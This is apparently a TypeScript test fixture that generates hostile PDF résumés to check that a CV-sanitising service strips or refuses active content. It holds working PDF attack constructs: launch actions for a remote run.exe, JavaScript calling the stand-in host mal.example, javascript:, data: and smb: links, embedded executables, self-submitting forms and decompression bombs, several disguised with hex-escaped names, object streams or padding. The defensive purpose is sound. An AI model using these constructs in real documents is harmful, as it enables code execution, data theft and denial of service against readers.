import { deflateSync } from 'node:zlib';
import { latin1, onePage, packedPdf, rawPdf, stream } from '../../support/cvs/raw-pdf.js';
import type { BadCv } from './bad-cvs.js';

/** Text in everything that must not reach a company. */
export const MARK = 'mal.example';

const LAUNCH = `<< /S /Launch /F (\\\\\\\\${MARK}\\\\run.exe) >>`;
const SCRIPT = `<< /S /JavaScript /JS (app.launchURL\\("https://${MARK}"\\)) >>`;
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [50 690 300 720] /A ${action} >>]`;
const annotation = (subtype: string, rest: string) => `/Annots [<< /Type /Annot /Subtype /${subtype} /Rect [50 50 300 90] ${rest} >>]`;
const inCatalog = (catalog: string, ...more: (string | Uint8Array)[]) => rawPdf(onePage(catalog, '', ...more));
const onPage = (page: string, ...more: (string | Uint8Array)[]) => rawPdf(onePage('', page, ...more));
const uri = (address: string) => onPage(link(`<< /S /URI /URI (${address}) >>`));
const packedLaunch = (dictionary: string, mark?: string) => packedPdf(onePage('/OpenAction 7 0 R', ''), [LAUNCH], dictionary, mark);
const resources = (inside: string) => `/Resources << /Font << /F1 5 0 R >> ${inside} >>`;
/** A page with its own resources in place of the default ones. */
const drawing = (inside: string, ...more: (string | Uint8Array)[]) =>
  rawPdf(
    onePage('', '', ...more).map((one, index) =>
      index === 2 ? String(one).replace('/Resources << /Font << /F1 5 0 R >> >>', resources(inside)) : one,
    ),
  );
const file = `<< /Type /Filespec /F (cv.exe) /EF << /F 6 0 R >> >>`;
const program = stream('/Type /EmbeddedFile', latin1(`MZ ${MARK}`));

/** Files that act when opened, or hide something; the company receives only their pages. */
const STRIPPED: readonly [what: string, bytes: Uint8Array<ArrayBuffer>][] = [
  ['a launch action in an object stream behind 4 kB of padding', packedLaunch(`/Padding (${'x'.repeat(5_000)})`)],
  ['an object stream whose mark ends with CR', packedLaunch('', 'stream\r')],
  ['an object stream whose mark is followed by spaces', packedLaunch('', 'stream   \n')],
  [
    'a link to a document on a server of a local network',
    onPage(link(`<< /S /GoToR /F (\\\\\\\\${MARK}\\\\share\\\\a.pdf) /D [0 /Fit] >>`)),
  ],
  ['a link to a file of the reader', uri(`file:///C:/${MARK}`)],
  ['JavaScript on opening', inCatalog(`/OpenAction ${SCRIPT}`)],
  ['JavaScript under a name in hexadecimal', inCatalog(`/Open#41ction << /S /J#61vaScr#69pt /JS (${MARK}) >>`)],
  ['JavaScript in an object stream', packedPdf(onePage('/OpenAction 7 0 R', ''), [SCRIPT])],
  ['a launch action', inCatalog(`/OpenAction ${LAUNCH}`)],
  ['a launch action under a name in hexadecimal', inCatalog(`/OpenAction << /S /L#61unch /F (${MARK}) >>`)],
  ['acts of the document', inCatalog(`/AA << /WC ${SCRIPT} /WS ${LAUNCH} >>`)],
  ['acts of the page', onPage(`/AA << /O ${SCRIPT} /C ${LAUNCH} >>`)],
  [
    'an act after an act',
    onPage(link(`<< /S /URI /URI (https://exemple.fr/) /Next [${LAUNCH} << /S /Named /N /Print /Next ${SCRIPT} >>] >>`)),
  ],
  ['a link whose acts lie in a list', onPage(link(`[${LAUNCH}]`))],
  [
    'annotations packed in an object stream',
    packedPdf(onePage('', '/Annots [7 0 R]'), [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${LAUNCH} >>`]),
  ],
  ['a link with acts of its own', onPage(annotation('Link', `/AA << /E ${SCRIPT} >> /PA << /S /URI /URI (https://${MARK}) >>`))],
  ['a tree of names with JavaScript', inCatalog(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`)],
  ['a tree of names with files', inCatalog(`/Names << /EmbeddedFiles << /Names [(cv.exe) ${file}] >> >>`, program)],
  ['a file pinned to the page', onPage(annotation('FileAttachment', `/FS ${file}`), program)],
  ['a file beside the document', inCatalog(`/AF [${file}]`, program)],
  ['a link to a script', uri(`javascript:alert\\('${MARK}'\\)`)],
  ['a link to a script, written oddly', uri(` jAvA\\tscript:alert\\('${MARK}'\\)`)],
  ['a link to data', uri(`data:text/html,<script src=https://${MARK}></script>`)],
  ['a link to a share', uri(`smb://${MARK}/a`)],
  ['a link whose address is relative to another', inCatalog(`/URI << /Base (https://${MARK}/) >>`)],
  ['a form that sends itself', onPage(annotation('Widget', `/FT /Btn /T (a) /A << /S /SubmitForm /F (https://${MARK}) >>`))],
  ['a form that loads data', inCatalog(`/OpenAction << /S /ImportData /F (${MARK}) >>`)],
  ['a form that computes', inCatalog(`/AcroForm << /Fields [] /CO [] /DR << /JS ${SCRIPT} >> >>`)],
  ['a document inside the document', inCatalog(`/OpenAction << /S /GoToE /F (${MARK}) /T << /R /C /N (a) >> >>`)],
  ['a film', onPage(annotation('Movie', `/Movie << /F (${MARK}) >> /A true`))],
  ['a sound', inCatalog(`/OpenAction << /S /Sound /Sound 6 0 R >>`, stream(`/Type /Sound /F (${MARK})`, latin1('')))],
  ['a rich medium', onPage(annotation('RichMedia', `/RichMediaContent << /Assets << /Names [(a.swf) ${file}] >> >>`), program)],
  ['a screen', onPage(annotation('Screen', `/A << /S /Rendition /OP 0 /R << /S /MR /C << /D (${MARK}) >> >> >>`))],
  [
    'a model in three dimensions',
    onPage(annotation('3D', '/3DD 6 0 R'), stream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', latin1(MARK)), stream('', latin1(MARK))),
  ],
  [
    'hidden metadata',
    inCatalog(
      '/Metadata 6 0 R /PieceInfo << /A << /Private 6 0 R >> >>',
      stream('/Type /Metadata /Subtype /XML', latin1(`<x>${MARK}</x>`)),
    ),
  ],
  ['a title and an author', rawPdf(onePage('', '', `<< /Title (${MARK}) /Author (${MARK}) >>`), '/Info 6 0 R')],
  ['HTML in a comment', latin1(Buffer.from(inCatalog('')).toString('latin1').replace('\n', `\n%<html><script src=//${MARK}></script>\n`))],
  ['PostScript that is drawn', drawing('/XObject << /P 6 0 R >>', stream('/Type /XObject /Subtype /PS', latin1(`(${MARK}) run`)))],
  [
    'a form drawn from another file',
    drawing(
      '/XObject << /P 6 0 R >>',
      stream(`/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${MARK}) /Page 0 >> /OPI << /F (${MARK}) >>`, latin1('0 0 m')),
    ),
  ],
  ['annotations nested 100,000 deep', onPage('/Annots 6 0 R', `${'['.repeat(100_000)}(${MARK})${']'.repeat(100_000)}`)],
  ['a page that no tree tells of', rawPdf(onePage('', '', `<< /Type /Page /AA << /O ${SCRIPT} >> >>`))],
];

const withContent = (content: Uint8Array) => rawPdf(onePage('', '').map((one, index) => (index === 3 ? content : one)));

/** Page content that inflates without limit; only the child process that reads it is affected. */
const contentBomb = () =>
  withContent(
    stream('/Filter /FlateDecode', deflateSync(Buffer.from(`BT /F1 12 Tf ${'(abcd) Tj 1 0 Td '.repeat(6_000_000)} ET`), { level: 9 })),
  );

function manyPages(count: number): Uint8Array<ArrayBuffer> {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => page),
  ]);
}

const picture = (dictionary: string, bytes: Uint8Array) =>
  drawing(
    '/XObject << /P 6 0 R >>',
    stream(`/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 ${dictionary}`, bytes),
  );

const REFUSED: readonly [what: string, code: string, bytes: () => Uint8Array<ArrayBuffer>][] = [
  ['an XFA form', 'cv.active', () => inCatalog('/AcroForm << /XFA 6 0 R /Fields [] >>', stream('', latin1(`<xdp>${MARK}</xdp>`)))],
  [
    'a folder of files',
    'cv.attachment',
    () => inCatalog(`/Collection << /Type /Collection >> /Names << /EmbeddedFiles << /Names [(a) ${file}] >> >>`, program),
  ],
  ['content that lies in another file', 'cv.too-complex', () => withContent(stream(`/F (${MARK})`, latin1('')))],
  ['10,000 pages', 'cv.too-many-pages', () => manyPages(10_000)],
  [
    'pages that turn in a circle',
    'cv.broken',
    () =>
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
      ]),
  ],
  ['page content that inflates to 100 MB', 'cv.too-complex', contentBomb],
  [
    'an object stream that inflates to 400 MB',
    'cv.too-complex',
    () => packedPdf(onePage('', '/Annots 7 0 R'), [`(${'a'.repeat(400 * 1024 * 1024)})`]),
  ],
  [
    'a picture that inflates to 400 MB',
    'cv.too-complex',
    () => picture('/Width 20000 /Height 20000 /Filter /FlateDecode', deflateSync(Buffer.alloc(400 * 1024 * 1024))),
  ],
  [
    'a picture packed forty times',
    'cv.too-complex',
    () => picture(`/Width 9 /Height 9 /Filter [${'/FlateDecode '.repeat(40)}]`, latin1('x')),
  ],
  ['a picture in a format with a record of holes', 'cv.too-complex', () => picture('/Width 9 /Height 9 /Filter /JBIG2Decode', latin1('x'))],
];

const HEAVY = /inflates|nested|10,000/;

export const badPdfs = (): BadCv[] => [
  ...STRIPPED.map(([what, bytes]) => ({ what, code: null, bytes, isHeavy: HEAVY.test(what) })),
  ...REFUSED.map(([what, code, make]) => ({ what, code, bytes: make(), isHeavy: HEAVY.test(what) })),
];
